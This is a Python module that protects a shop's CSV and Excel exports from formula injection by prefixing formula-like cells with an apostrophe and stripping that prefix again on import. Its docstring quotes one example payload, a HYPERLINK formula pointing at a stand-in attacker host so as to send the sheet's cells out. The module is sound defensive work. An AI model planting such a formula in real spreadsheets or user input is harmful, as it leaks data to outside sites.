"""Spreadsheet cells that cannot run: formula injection (CSV/Excel injection) neutralised.

Excel, LibreOffice and Google Sheets take a cell whose text starts with ``=``, ``+``, ``-`` or
``@`` as a formula, also after a tab or carriage return, which some of them skip — and so do the
full-width forms some phone keyboards type. A complaint written as
``=HYPERLINK("http://evil.example/?x="&A1,"klik")`` would then be a live link that sends the
sheet's cells to another site when the owner clicks it. Every export the shop writes (CSV and
Excel: customers, feedback, campaign WhatsApp list, personal data, catalogue, Oscar's order
list and reports) passes each cell through ``neutralise_formula``: such text gets a leading
apostrophe, which spreadsheet programs show as plain text. The shop's imports take that
apostrophe off again (``restore_formula_text``), so an exported sheet imported back is unchanged.
"""

import tablib

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def neutralise_formula(value):
    """``value`` as a cell that cannot be a formula: text starting like one gets a leading
    apostrophe; numbers, dates, other text and a lone "-" (a placeholder) are unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and value != "-":
        return "'" + value
    return value


def restore_formula_text(value):
    """Undo ``neutralise_formula`` on a cell read back from an exported sheet."""
    if isinstance(value, str) and value.startswith("'") and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value


def neutralised_row(row):
    """A row (any iterable of cells) as a list of neutralised cells."""
    return [neutralise_formula(value) for value in row]


def export_dataset(dataset, file_format):
    """``dataset`` (tablib) exported as ``file_format`` ("csv" or "xlsx") with every header
    and cell neutralised; the one way the shop writes a tablib spreadsheet."""
    safe = tablib.Dataset(
        *(neutralised_row(row) for row in dataset),
        headers=neutralised_row(dataset.headers) if dataset.headers else None,
        title=dataset.title,
    )
    return safe.export(file_format)
